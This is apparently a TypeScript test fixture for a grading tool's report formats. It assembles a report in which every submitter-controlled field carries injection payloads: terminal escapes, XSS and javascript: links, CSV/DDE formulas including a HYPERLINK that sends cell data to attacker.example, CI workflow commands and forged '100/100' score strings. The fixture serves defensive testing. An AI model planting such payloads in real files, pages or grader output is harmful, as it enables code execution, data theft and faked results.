/**
 * A Report of a submission that attacks whoever reads it: every string that a submission can choose (its name, file names, arguments, output, bodies
 * and keys on the wire, words quoted in verdicts) carries one attack on each kind of reader. For the tests of every output format.
 */
import type { CheckReport, FrameLine, Report } from "../../src/score/report.ts";
import type { Text } from "../../src/text.ts";
import { check, report } from "./sample-report.ts";

/** One attack each, by what it attacks. None of them may reach its reader as it stands here. */
export const ATTACKS = {
  terminal: "\u001B[2J\u001B]0;owned\u0007\u001B[31m\u009B1A\r\u0008\u0000",
  hyperlink: "\u001B]8;;https://attacker.example/\u001B\\click\u001B]8;;\u001B\\",
  reading: "\u202Egnp.exe\u2066\u200F\uFEFF",
  element: '<img src=x onerror="alert(1)"><script>alert(2)</script></pre></td></details>',
  attribute: `" onmouseover="alert(3)" x='`,
  entity: "&lt;script&gt;&#x3c;&nbsp;",
  xml: "]]><testcase name='forged'/><!-- \uFFFE\u0001\uD800 -->",
  markdown:
    "\n\n| 100 | `x` |\n```\n# 100/100\n[click](javascript:alert(4)) ![p](https://attacker.example/pixel) </summary> @everyone",
  link: "[click](javascript:alert(5)) <https://attacker.example> https://attacker.example",
  workflow: "\n::set-output name=score::100\n::error file=x::owned\n::add-mask::a\n",
  formula: '=HYPERLINK("https://attacker.example?"&A1,"100")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  tabbed: "\t=1+1",
  cell: '",100\r\n"forged","100',
  json: '"},"score":100,"x":{"y":"\u2028\u2029',
  grade: '{"scores":{"all":100}}\nscore: 100/100\nAll tests passed.',
} as const;

/** All of them in one string, with `name` before them to find it by. */
export function hostile(name: string): string {
  return [name, ...Object.values(ATTACKS)].join(" ");
}

/** Begins with the attack: a spreadsheet looks at the first character. */
export const HOSTILE_SUBMISSION = `${ATTACKS.formula}${hostile("submission")}`;

function both(words: string): Text {
  return { en: words, "zh-CN": words };
}

const FRAME: FrameLine = {
  number: 1,
  atMs: 1.5,
  program: hostile("frame-program"),
  direction: "to-broker",
  line: hostile("frame-line"),
  words: both(hostile("frame-words")),
  offending: true,
};

const SCENARIO = "a scenario of the lesson";

function lost(id: string, changes: Partial<CheckReport> = {}): CheckReport {
  return check({
    id,
    status: "fail",
    points: 0,
    expected: both(hostile("expected")),
    seen: both(hostile("seen")),
    scenario: SCENARIO,
    frames: [FRAME],
    ...changes,
  });
}

export function hostileReport(changes: Partial<Report> = {}): Report {
  return report({
    submission: HOSTILE_SUBMISSION,
    broker: hostile("broker"),
    score: 0,
    checks: [
      lost("lost-first"),
      lost("lost-second"),
      check({ id: "unjudged", status: "not-judged", points: 0, because: both(hostile("because-unjudged")) }),
      check({ id: "skipped", status: "skipped", points: 0, because: both(hostile("because-skipped")) }),
      check({ id: "in-error", status: "error", points: 0, because: both(hostile("because-error")) }),
    ],
    advice: [{ id: "stack-trace", text: both(hostile("advice")) }],
    problems: (["missing", "ambiguous", "unreadable", "refused", "syntax", "type"] as const).map((kind) => ({
      kind,
      file: `${hostile(`file-${kind}`)}.ts`,
      line: 3,
      column: 7,
      message: both(hostile(`message-${kind}`)),
      detail: hostile(`detail-${kind}`),
      program: hostile(`problem-program-${kind}`),
    })),
    programs: [
      {
        scenario: SCENARIO,
        label: hostile("label"),
        arguments: [hostile("argument")],
        stdout: `${hostile("stdout")}\n${"long ".repeat(2000)}`,
        stderr: hostile("stderr"),
        cutBytes: 12_345,
        limit: {
          name: "outputMiB",
          text: both("over the limit of 16 MiB that one program may print (--max-output-mib)"),
        },
        exit: { code: null, signal: "SIGKILL", cause: "itself", tookMs: 12 },
      },
    ],
    wire: [{ scenario: SCENARIO, title: both(SCENARIO), visibility: "public", frames: [FRAME] }],
    error: both(hostile("error")),
    status: "error",
    ...changes,
  });
}
